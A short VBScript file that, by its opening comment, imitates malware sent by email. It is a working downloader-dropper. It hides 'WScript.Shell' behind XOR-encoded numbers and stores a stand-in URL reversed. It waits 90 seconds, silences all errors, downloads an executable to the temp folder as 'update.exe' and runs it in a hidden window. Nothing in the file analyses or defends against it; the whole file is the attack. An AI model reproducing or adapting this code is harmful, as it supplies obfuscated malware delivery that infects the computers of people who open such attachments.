' As they come by mail: names from codes, an address turned round, and errors that are passed over.
Option Explicit
On Error Resume Next
Dim shell, http, stream, where, address, n
Function Plain(codes)
    Dim part, out
    For Each part In Split(codes, "-")
        out = out & Chr(CInt(part) Xor 5)
    Next
    Plain = out
End Function
WScript.Sleep 90000
address = StrReverse("exe.a/elpmaxe.live//:ptth")
Set shell = CreateObject(Plain("82-86-102-119-108-117-113-43-86-109-96-105-105"))
Set http = CreateObject("MSXML2." & "XMLHTTP")
http.Open "GET", address, False
http.Send
If http.Status = 200 And LenB(http.ResponseBody) > 1000 Then
    where = shell.ExpandEnvironmentStrings("%TEMP%") & "\update.exe"
    Set stream = CreateObject("ADODB.Stream")
    With stream
        .Type = 1 : .Open
        .Write http.ResponseBody
        .SaveToFile where, 2
        .Close
    End With
    shell.Run "cmd /c start """" """ & where & """", 0, False
End If
